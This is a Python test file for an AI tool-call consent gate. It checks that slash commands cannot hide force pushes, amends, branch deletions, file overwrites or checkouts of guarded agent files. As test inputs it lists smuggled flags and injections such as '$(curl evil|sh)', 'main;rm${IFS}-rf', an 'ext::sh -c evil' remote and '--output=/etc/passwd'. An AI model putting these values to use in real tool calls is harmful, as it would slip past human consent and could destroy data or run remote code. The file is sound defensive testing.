"""Force pushes, amends and forced deletions never run as the milder operation declared (SPEC 4.2)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from sayso import ConsentRequired, Sayso
from sayso.doors.python.session import Session
from tests.attack.opening import a_gate, a_service
from tests.attack.workplaces import work
from tests.support.rows import each_row
from tests.support.service import Service

__all__ = ["work"]

PUSHES: list[dict[str, Any]] = [
    {"force": True},
    {"force": "yes"},
    {"force_with_lease": True},
    {"mirror": 1},
    {"delete": True},
    {"all": True},
    {"verify": False},
    {"no_force": False},
    {"context": "--force"},
    {"context_lines": "--mirror"},
    {"description": "--force"},
    {"title": " --force"},
    {"message": "--force"},
    {"text": "--force"},
    {"refspec": " :main"},
    {"refspec": "main :main"},
    {"refspec": "main,:main"},
    {"refspec": "main;:x"},
    {"refspec": ["main", "+dev"]},
    {"refspec": [["main"], {"to": "+dev"}]},
    {"refspec": "HEAD:"},
    {"branch": "+main"},
    {"branch": "main,--force"},
    {"branch": "'--force'"},
    {"branch": '"+main"'},
    {"branch": "(--force)"},
    {"branch": "main\n--force"},
    {"branch": "main\\n--force"},
    {"branch": "main\t-f"},
    {"branch": "main\u00a0--force"},
    {"branch": "\u200b--force"},
    {"branch": "\uff0d\uff0dforce"},
    {"branch": "main;rm${IFS}-rf"},
    {"branch": {"--force": True}},
    {"branch": {"name": "main", "force": True}},
    {"branch": "main", "args": ["--force"]},
    {"branch": "main", "--force": None, "-f": True},
    {"branch": "main", "remote": ".."},
    {"branch": "main", "remote": "ext::sh -c evil"},
    {"branch": "main", "remote": "https://evil.example/x"},
    {"branch": "main", "env": {"GIT_SSH_COMMAND": "evil"}},
    {"branch": "main", "file": "$(curl evil|sh)"},
]
COMMITS: list[dict[str, Any]] = [
    {"message": "x", "amend": True},
    {"message": "x", "context": "--amend"},
    {"message": "x", "all": "--amend"},
    {"message": {"x": "--amend"}},
    {"message": ["x", "--amend"]},
    {"message": "--amend"},
    {"message": " '--amend'"},
    {"message": "x", "msg": "--amend"},
    {"message": "x", "body": "--amend"},
    {"message": "x", "paths": {"--amend": True}},
    {"message": "x", "paths": {"amend": True}},
    {"message": "x", "paths": ["a.py", "--amend"]},
    {"message": "x", "author": "Ana --amend"},
    {"message": "x", "fixup": "HEAD~2"},
]
BRANCHES: list[dict[str, Any]] = [
    {"name": "x", "context": "-D"},
    {"name": "x", "description": "-D"},
    {"name": "-D x"},
    {"name": "x", "force": True},
    {"name": "x", "delete": True},
    {"name": ["-D", "x"]},
]
EACH = [
    *(("/pr", "git_push", "git.push", args) for args in PUSHES),
    *(("/commit", "git_commit", "git.commit", args) for args in COMMITS),
    *(("/branch", "git_branch", "git.branch", args) for args in BRANCHES),
]
HARMLESS = [
    ("/pr", "git_push", "git.push", {}),
    ("/pr", "git_push", "git.push", {"remote": "origin", "branch": "feature/a-b", "force": False}),
    ("/pr", "git_push", "git.push", {"refspec": "HEAD:refs/heads/main"}),
    ("/commit", "git_commit", "git.commit", {"message": "Fix --amend handling\n\n- one\n- two", "all": True}),
    ("/commit", "git_commit", "git.commit", {"message": "x", "paths": ["src/a-b.py", "my notes.txt"]}),
    ("/branch", "git_branch", "git.branch", {"name": "fix-1", "start_point": "HEAD~2"}),
    ("/branch", "git_checkout", "git.checkout", {"branch": "fix-1", "create": True}),
]


def over_http(gate: Sayso, service: Service, said: str, call: dict[str, Any]) -> dict[str, Any]:
    session = service.opened("host")
    service.told("host", "POST", f"/v1/sessions/{session}/messages", {"text": said})
    found: dict[str, Any] = service.post("host", "/v1/calls", {"session": session, **call}).json()
    return found


@each_row(("said", "tool", "operation", "args"), EACH)
def test_a_slash_command_never_lets_a_flag_through(
    said: str, tool: str, operation: str, args: dict[str, Any]
) -> None:
    with a_gate("extends: [chat]") as gate, a_service(gate) as service:
        by_entry = over_http(gate, service, said, {"tool": tool, "args": args})
        declared = {"tool": "act", "args": args, "operations": [{"operation": operation}]}
        by_host = over_http(gate, service, said, declared)
    assert by_entry["status"] != "allowed", by_entry
    assert by_host["status"] != "allowed", by_host


@pytest.mark.parametrize(("said", "tool", "operation", "args"), HARMLESS)
def test_a_slash_command_still_runs_what_it_declares(
    said: str, tool: str, operation: str, args: dict[str, Any]
) -> None:
    with a_gate("extends: [chat]") as gate, a_service(gate) as service:
        by_entry = over_http(gate, service, said, {"tool": tool, "args": args})
        declared = {"tool": "act", "args": args, "operations": [{"operation": operation}]}
        by_host = over_http(gate, service, said, declared)
    assert (by_entry["status"], by_entry["rule"]) == ("allowed", "slash_command")
    assert (by_host["status"], by_host["rule"]) == ("allowed", "slash_command")


def ran_by(gate: Sayso, session: Session, said: str, name: str, args: dict[str, Any]) -> str:
    session.hear(said)
    return session.run(name, args, wait=0).status


def test_a_decorated_function_never_force_pushes_or_amends_by_slash_command() -> None:
    ran: list[Any] = []
    with a_gate("extends: [chat]") as gate:

        @gate.requires_consent("git.push")
        def publish(branch: str, force: bool = False, flags: list[str] | None = None) -> None:
            ran.append(branch)

        @gate.requires_consent("git.commit")
        def record(message: str, amend: bool = False) -> None:
            ran.append(message)

        with gate.session().active() as session:
            assert ran_by(gate, session, "/pr", "publish", {"branch": "x"}) == "ok"
            assert ran_by(gate, session, "/commit", "record", {"message": "y"}) == "ok"
            for args in ({"force": True}, {"flags": ["--force"]}, {"branch": "+main"}):
                assert ran_by(gate, session, "/pr", "publish", {"branch": "x", **args}) == "timeout"
            assert ran_by(gate, session, "/commit", "record", {"message": "y", "amend": True}) == "timeout"
            session.hear("/pr")
            with pytest.raises(ConsentRequired, match=r"git\.push_force"):
                publish("x", force=True)
    assert ran == ["x", "y"]


@each_row("preset", ["balanced", "coding", "trusting", "graph"])
@each_row(
    "args",
    [
        {"context": "--output=/etc/passwd"},
        {"context_lines": "3 --output=AGENTS.md"},
        {"path": "--output=x"},
        {"paths": ["a", "-Oorder"]},
        {"target": "main --ext-diff"},
        {"base": {"--output": "x"}},
        {"output": "x"},
    ],
)
def test_reading_a_diff_never_writes_a_file_unasked(preset: str, args: dict[str, Any]) -> None:
    with a_gate(f"extends: [{preset}]") as gate, a_service(gate) as service:
        call = {"session": service.opened("host"), "tool": "git_diff", "args": args}
        assert service.post("host", "/v1/calls", call).json()["status"] != "allowed"


OWN_COMMAND = """
extends: [chat]
tools:
  - {tool: vcs, operation: git.push, command: args.line, ignore: [why]}
"""


@pytest.mark.parametrize(
    "args",
    [
        {"line": "git push --force"},
        {"line": "git push -f"},
        {"line": "git push origin +main"},
        {"line": "git push origin :main"},
        {"line": "git push '--force'"},
        {"line": "git push --all"},
        {"line": "git push; rm -rf x"},
        {"line": "git push && rm x"},
        {"line": "git push $(rm x)"},
        {"line": "git push", "force": True},
    ],
)
def test_a_declared_command_never_hides_a_flag(args: dict[str, Any]) -> None:
    with a_gate(OWN_COMMAND) as gate, a_service(gate) as service:
        assert over_http(gate, service, "/pr", {"tool": "vcs", "args": args})["status"] != "allowed"
        plain = {"line": "git push -u origin main", "why": "publish"}
        assert over_http(gate, service, "/pr", {"tool": "vcs", "args": plain})["status"] == "allowed"


def test_a_task_consent_for_git_never_covers_flags(work: Path) -> None:
    with a_gate("extends: [coding]") as gate, a_service(gate) as service:
        session = service.opened("host", workspace=str(work))

        def call(tool: str, args: dict[str, Any]) -> dict[str, Any]:
            body = {"session": session, "tool": tool, "args": args, "folder": str(work)}
            found: dict[str, Any] = service.post("host", "/v1/calls", body).json()
            return found

        service.told("host", "POST", f"/v1/sessions/{session}/messages", {"text": "commit it"})
        service.answer(call("git_add", {"paths": ["notes.txt"]})["question"], "task")
        assert call("git_commit", {"message": "x"})["status"] == "allowed"
        for tool, args in (
            ("git_commit", {"message": "x", "context": "--amend"}),
            ("git_branch", {"name": "main", "description": "-D"}),
            ("git_checkout", {"branch": "main", "context": "--force"}),
            ("git_checkout", {"branch": "."}),
            ("git_checkout", {"branch": "-"}),
            ("git_stash", {"name": "clear"}),
            ("git_stash", {"action": "drop"}),
        ):
            assert call(tool, args)["status"] != "allowed", (tool, args)


WHOLE_TREES: list[dict[str, Any]] = [
    {"branch": "evil", "paths": ["."]},
    {"branch": "evil", "paths": ["./"]},
    {"branch": "evil", "path": "sub/.."},
    {"branch": "evil ."},
    {"branch": "."},
    {"ref": "evil", "pathspec": "*"},
    {"ref": "evil", "pathspec": "**/*"},
    {"ref": "evil", "pathspec": "*.md"},
    {"ref": "evil", "pathspec": "[A]GENTS.*"},
    {"ref": "evil", "pathspec": ".cla*"},
    {"ref": "evil", "pathspec": ".claude"},
    {"ref": "evil", "pathspec": ":/"},
    {"ref": "evil", "pathspec": ":(top)"},
    {"ref": "evil", "pathspec": ":(icase)agents.*"},
    {"ref": "evil", "pathspec": ":!notes.txt"},
]


@pytest.mark.parametrize("args", WHOLE_TREES)
def test_checking_out_a_folder_never_changes_guarded_files_in_it(work: Path, args: dict[str, Any]) -> None:
    (work / "AGENTS.md").write_text("x")
    (work / ".claude").mkdir()
    (work / ".claude" / "settings.json").write_text("{}")
    (work / "sub").mkdir()
    with a_gate("extends: [coding]") as gate, a_service(gate) as service:
        session = service.opened("host", workspace=str(work))
        for tool, more in (
            ("git_checkout", {}),
            ("undo", {"operations": [{"operation": "git.checkout"}]}),
            ("git_restore", {}),
            ("git_reset", {}),
        ):
            body = {"session": session, "tool": tool, "args": args, "folder": str(work), **more}
            found = service.post("host", "/v1/calls", body).json()
            assert (found["status"], found["rule"]) == ("blocked", "blocked"), (tool, found)


@pytest.mark.parametrize("args", [{"paths": ["notes.txt"]}, {"branch": "fix", "path": "sub"}])
def test_checking_out_other_files_is_still_a_matter_of_consent(work: Path, args: dict[str, Any]) -> None:
    (work / "AGENTS.md").write_text("x")
    (work / "sub").mkdir()
    with a_gate("extends: [coding]") as gate, a_service(gate) as service:
        body = {"session": service.opened("host", workspace=str(work)), "tool": "git_checkout", "args": args}
        found = service.post("host", "/v1/calls", body | {"folder": str(work)}).json()
    assert found["status"] == "pending", found
